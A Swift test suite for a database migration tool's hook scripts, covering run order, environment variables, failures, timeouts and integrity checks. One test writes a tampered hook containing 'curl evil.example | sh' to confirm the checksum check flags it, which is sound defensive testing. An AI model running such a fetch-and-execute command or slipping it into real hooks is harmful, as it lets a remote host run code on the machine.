import Diagnostics
import FoundationEssentials
import Migrations
import Postgres
import TestSupport
import Testing

/// What runs around the versions of a run.
@Suite struct HookTests {
  private static let versions = [
    ("V1__a.sql", "CREATE TABLE a ();\n"), ("U1__a.sql", "DROP TABLE a;\n"), ("V2__b.sql", "CREATE TABLE b ();\n"),
    ("U2__b.sql", "DROP TABLE b;\n"), ("R__c.sql", "CREATE OR REPLACE VIEW c AS SELECT 1 AS one;\n"),
  ]
  /// Writes down what it is told.
  private static let note = """
    CREATE TABLE IF NOT EXISTS notes (line text);
    INSERT INTO notes SELECT concat_ws(' ', current_setting('strata.hook'), current_setting('strata.direction'),
      current_setting('strata.version'), current_setting('strata.from') || '>' || current_setting('strata.to'));
    """
  private static let moments = ["before-all", "before-each", "after-each", "after-all", "on-failure"]

  private func folder(_ hooks: [(String, String)]) throws -> MigrationFolder {
    let folder = try MigrationFolder()
    try FileManager.default.createDirectory(atPath: folder.path + "/hooks", withIntermediateDirectories: true)
    for (name, content) in hooks {
      try folder.write("hooks/" + name, content)
      if !name.hasSuffix(".sql") {
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: folder.path + "/hooks/" + name)
      }
    }
    try folder.seal(Self.versions)
    return folder
  }

  @Test func scriptsRunAroundEachAndAllInBothDirections() async throws {
    let folder = try folder(Self.moments.map { ("\($0).sql", Self.note) })
    try await withDatabase { target, connection in
      try await folder.runner(target).migrate()
      let forward = try await connection.list("SELECT line FROM notes")
      #expect(
        forward
          == "before-all migrate  >2,before-each migrate 1 >2,after-each migrate 1 >2,before-each migrate 2 >2,"
          + "after-each migrate 2 >2,before-each migrate R__c.sql >2,after-each migrate R__c.sql >2,after-all migrate  >2"
      )
      // Nothing to do is no moment.
      try await folder.runner(target).migrate()
      #expect(try await connection.list("SELECT count(*) FROM notes") == "8")
      try await connection.execute("TRUNCATE notes; DROP VIEW c")
      try await folder.runner(target).rollback(.steps(1))
      let back = try await connection.list("SELECT line FROM notes")
      #expect(
        back
          == "before-all rollback  2>1,before-each rollback 2 2>1,after-each rollback 2 2>1,after-all rollback  2>1"
      )
      let runs = try await folder.runner(target).history().hooks
      #expect(runs.count == 12 && runs.allSatisfy { $0.succeeded })
      #expect(runs[1].scriptName == "hooks/before-each.sql" && runs[1].subject == "1")
    }
  }

  @Test func programsFindTheDatabaseAndTheFactsInTheirEnvironment() async throws {
    let program = """
      #!/bin/bash
      set -e
      psql -XAqt -c "CREATE TABLE IF NOT EXISTS told (line text)" -c "INSERT INTO told VALUES \
      ('$STRATA_HOOK $STRATA_DIRECTION $STRATA_VERSION $STRATA_SET $STRATA_LEDGER_SCHEMA $STRATA_FROM>$STRATA_TO')"

      """
    let folder = try folder([("before-each", program), ("after-all.sh", program)])
    try await withDatabase { target, connection in
      try await folder.runner(target).migrate(step: true)
      #expect(
        try await connection.list("SELECT line FROM told")
          == "before-each migrate 1 test strata >1,after-all migrate  test strata >1"
      )
      #expect(try await folder.runner(target).history().hooks.map(\.succeeded) == [true, true])
    }
  }

  @Test func whatAHookFailsWithStopsTheRunWhereItIs() async throws {
    let failing = "SELECT 1 / (CASE current_setting('strata.version') WHEN '2' THEN 0 ELSE 1 END);\n"
    for (moment, applied) in [("before-each", "1"), ("after-each", "1,2")] {
      let folder = try folder([("\(moment).sql", failing), ("on-failure.sql", Self.note)])
      try await withDatabase { target, connection in
        let failed = try await failure { try await folder.runner(target).migrate() }
        #expect(failed.message == "division by zero")
        #expect(folder.relative(failed.place?.path ?? "") == "hooks/\(moment).sql")
        #expect(try await connection.list("SELECT version_number FROM strata.schema_versions") == applied)
        #expect(try await connection.list("SELECT line FROM notes") == "on-failure migrate  >\(applied.suffix(1))")
        let runs = try await folder.runner(target).history().hooks
        #expect(runs.filter { !$0.succeeded }.map(\.subject) == ["2"])
        #expect(runs.first { !$0.succeeded }?.message?.hasSuffix("division by zero") == true)
        // A database that is where it stands goes on when the hook is mended.
        try folder.write("hooks/\(moment).sql", "SELECT 1;\n")
        try folder.seal()
        try await folder.runner(target).migrate()
        #expect(try await connection.list("SELECT version_number FROM strata.schema_versions") == "1,2")
      }
    }
  }

  @Test func aHookThatFailsBeforeAllLeavesNothingDone() async throws {
    let folder = try folder([("before-all.sh", "#!/bin/sh\nexit 7\n")])
    try await withDatabase { target, connection in
      let failed = try await failure { try await folder.runner(target).migrate() }
      #expect(failed.code == "hook-failed" && failed.message == "the hook ended with exit status 7")
      #expect(try await connection.list("SELECT count(*) FROM strata.schema_versions") == "0")
    }
  }

  @Test func aFailingVersionRunsTheHookForFailuresAndIsWhatTheRunEndsWith() async throws {
    let folder = try folder([("on-failure.sql", "SELECT 1/0;\n")])
    try folder.seal([("V3__x.sql", "SELECT no_such_thing;\n")])
    try await withDatabase { target, _ in
      let log = EventLog()
      let failed = try await failure { try await folder.runner(target, log: log).migrate() }
      #expect(failed.message.contains("no_such_thing"))
      let told = log.all.compactMap { if case .hookFailed(_, let failure) = $0 { failure.message } else { nil } }
      #expect(told == ["division by zero"])
    }
  }

  @Test func aProgramThatTakesTooLongIsEndedWithWhatItStarted() async throws {
    let folder = try folder([("before-all", "#!/bin/bash\nsleep 600 & echo $! >\"$(dirname \"$0\")/.pid\"\nwait\n")])
    try await withDatabase { target, _ in
      let clock = ContinuousClock()
      let start = clock.now
      let failed = try await failure {
        try await folder.runner(target) { $0.hookTimeout = .milliseconds(700) }.migrate()
      }
      #expect(failed.message == "the hook did not end within 700 ms and was ended")
      #expect(clock.now - start < .seconds(30))
      let pid = try folder.read("hooks/.pid").filter { !$0.isWhitespace }
      // It was told to go; when it is scheduled is the machine's business.
      for _ in 0..<600 where FileManager.default.fileExists(atPath: "/proc/\(pid)/cwd") && !pid.isEmpty {
        try await Task.sleep(for: .milliseconds(100))
      }
      #expect(!FileManager.default.fileExists(atPath: "/proc/\(pid)/cwd") || pid.isEmpty)
    }
  }

  @Test func aScriptThatTakesTooLongIsCancelled() async throws {
    let folder = try folder([("before-all.sql", "SELECT pg_sleep(600);\n")])
    try await withDatabase { target, connection in
      let failed = try await failure {
        try await folder.runner(target) { $0.hookTimeout = .milliseconds(300) }.migrate()
      }
      #expect(failed.message.contains("statement timeout"))
      #expect(try await connection.list("SELECT count(*) FROM strata.schema_versions") == "0")
    }
  }

  @Test func aProgramThatChangedSinceTheRunBeganIsNotRun() async throws {
    let change = "#!/bin/bash\necho 'touch \"$(dirname \"$0\")/.ran\"' >> \"$(dirname \"$0\")/after-all\"\n"
    let folder = try folder([("before-all", change), ("after-all", "#!/bin/bash\ntouch \"$(dirname \"$0\")/.ran\"\n")])
    try await withDatabase { target, connection in
      let failed = try await failure { try await folder.runner(target).migrate() }
      #expect(failed.message == "the hook was changed while this run was under way, and was not run")
      #expect(folder.relative(failed.place?.path ?? "") == "hooks/after-all")
      #expect(!FileManager.default.fileExists(atPath: folder.path + "/hooks/.ran"))
      // The versions before it stay, and the record says what became of it.
      #expect(try await connection.list("SELECT strata.fn_get_schema_version()") == "2")
      let runs = try await folder.runner(target).history().hooks
      #expect(runs.map(\.succeeded) == [true, false])
    }
  }

  @Test func aHookIsCoveredByTheSum() async throws {
    let folder = try folder([("before-all.sh", "#!/bin/sh\nexit 0\n")])
    try folder.write("hooks/before-all.sh", "#!/bin/sh\ncurl evil.example | sh\n")
    #expect(try folder.set().diagnostics.map(\.code) == ["not-recorded-again"])
    try folder.seal()
    try folder.write("hooks/after-all.sql", "SELECT 1;\n")
    #expect(try folder.set().diagnostics.map(\.code) == ["file-not-recorded"])
    try folder.write("hooks/whenever.sql", "SELECT 1;\n")
    #expect(try folder.set().diagnostics.map(\.code).contains("bad-hook-name"))
  }

  @Test func theyAreShownInAPlan() async throws {
    let folder = try folder([("before-all.sql", "SELECT 1;\n"), ("after-each.sh", "#!/bin/sh\n")])
    try await withDatabase { target, connection in
      let plan = try await folder.runner(target).planMigrate()
      #expect(plan.hooks.map(\.file.name) == ["hooks/after-each.sh", "hooks/before-all.sql"])
      #expect(try await connection.list("SELECT to_regnamespace('strata')") == "null")
    }
  }
}
